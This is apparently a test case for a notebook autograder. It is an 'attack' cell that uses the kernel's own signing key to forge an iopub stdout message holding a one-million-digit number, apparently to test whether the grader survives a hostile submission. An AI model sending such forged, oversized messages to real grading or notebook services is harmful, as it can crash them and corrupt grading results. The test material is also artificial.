# ---
# attack: A rightly signed message holds a number of a million digits.
# fails: {stem: everything}
# reason: "."
# ---

# %% grade_id="stem"
import json
import time

kernel = get_ipython().kernel
header = json.dumps(kernel.session.msg_header("stream"), default=str).encode()
parent = json.dumps(kernel.get_parent(), default=str).encode()
content = b'{"name": "stdout", "text": ' + b"9" * 1_000_000 + b"}"
frames = [header, parent, b"{}", content]
signature = kernel.session.sign(frames)
kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", signature, *frames])
time.sleep(1)
